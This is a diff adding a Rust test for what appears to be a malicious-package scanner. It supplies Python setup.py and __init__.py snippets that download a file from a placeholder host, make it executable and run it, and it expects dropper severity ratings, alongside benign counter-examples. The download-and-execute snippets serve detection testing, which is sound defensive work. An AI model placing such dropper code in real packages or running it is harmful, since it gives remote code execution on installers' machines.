@@ -106,3 +106,32 @@ fn code_read_through_a_with_block_is_judged_like_a_direct_read() {
         ("demo/__init__.py", "import json\nwith open('/etc/demo.json') as f:\n    CONFIG = json.loads(f.read())\n"),
     ]);
 }
+
+/// A file downloaded, made executable and run, over several statements: each step alone is
+/// at most medium (the network call); running the file the same code downloaded is a dropper.
+#[test]
+fn running_a_file_the_code_downloaded_is_a_dropper() {
+    use Severity::*;
+    const RULE: &str = "python-exec-computed";
+    check(&[
+        ("setup.py", "import os, subprocess, urllib.request\np = '/tmp/tool.bin'\nurllib.request.urlretrieve('https://example.invalid/tool', p)\nos.chmod(p, 0o755)\nsubprocess.call([p])\n", RULE, Some(Critical)),
+        ("demo/__init__.py", "import os, tempfile, requests, subprocess\nr = requests.get('https://example.invalid/tool')\np = os.path.join(tempfile.gettempdir(), 'tool')\nwith open(p, 'wb') as f:\n    f.write(r.content)\nos.chmod(p, 0o755)\nsubprocess.Popen(p)\n", RULE, Some(Critical)),
+        ("setup.py", "import os, urllib.request\nurllib.request.urlretrieve('https://example.invalid/t.sh', '/tmp/t.sh')\nos.system('sh /tmp/t.sh')\n", RULE, Some(Critical)),
+        ("setup.py", "import subprocess, sys, urllib.request\nresp = urllib.request.urlopen('https://example.invalid/x.py')\nwith open('x.py', 'wb') as out:\n    for chunk in iter(lambda: resp.read(8192), b''):\n        out.write(chunk)\nsubprocess.check_call([sys.executable, 'x.py'])\n", RULE, Some(Critical)),
+        ("setup.py", "import os, subprocess, requests\nr = requests.get('https://example.invalid/t', stream=True)\nwith open('t', 'wb') as out:\n    for chunk in r.iter_content(8192):\n        out.write(chunk)\nsubprocess.check_call(['chmod', '+x', 't'])\nos.system('./t --quiet')\n", RULE, Some(Critical)),
+        ("setup.py", "import subprocess, urllib.request, pathlib\np = pathlib.Path('/tmp/tool')\np.write_bytes(urllib.request.urlopen('https://example.invalid/t').read())\nsubprocess.run([str(p)])\n", RULE, Some(Critical)),
+        ("setup.py", "import shutil, subprocess, urllib.request\nr = urllib.request.urlopen('https://example.invalid/t')\nwith open('/tmp/t', 'wb') as f:\n    shutil.copyfileobj(r, f)\nsubprocess.Popen('/tmp/t ' + '--quiet', shell=True)\n", RULE, Some(Critical)),
+        // In a function the module calls at import: high.
+        ("demo/__init__.py", "import os, subprocess, urllib.request\ndef fetch():\n    urllib.request.urlretrieve('https://example.invalid/tool', '/tmp/tool')\n    os.chmod('/tmp/tool', 0o755)\n    subprocess.call(['/tmp/tool'])\nfetch()\n", RULE, Some(High)),
+        // In a function nothing calls at load: a tool fetching a binary on request.
+        ("demo/tools.py", "import os, subprocess, urllib.request\ndef fetch():\n    urllib.request.urlretrieve('https://example.invalid/tool', '/tmp/tool')\n    os.chmod('/tmp/tool', 0o755)\n    subprocess.call(['/tmp/tool'])\n", RULE, Some(Low)),
+        // Unpacking a downloaded archive runs `tar`, not the download.
+        ("setup.py", "import subprocess, urllib.request\nurllib.request.urlretrieve('https://example.invalid/src.tar.gz', 'src.tar.gz')\nsubprocess.check_call(['tar', 'xzf', 'src.tar.gz'])\n", RULE, None),
+        // A download in one function is not the file another function runs.
+        ("demo/tools.py", "import subprocess, urllib.request\ndef get(url, p):\n    urllib.request.urlretrieve(url, p)\ndef run(p):\n    subprocess.call([p])\nrun('x')\n", RULE, None),
+    ]);
+    benign(&[
+        ("setup.py", "import subprocess\nfrom setuptools import setup\nv = subprocess.call(['git', 'describe'])\nout = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\nsetup(name='demo')\n"),
+        ("setup.py", "import os, subprocess\nos.chmod('scripts/run.sh', 0o755)\nsubprocess.check_call(['scripts/run.sh'])\n"),
+    ]);
+}
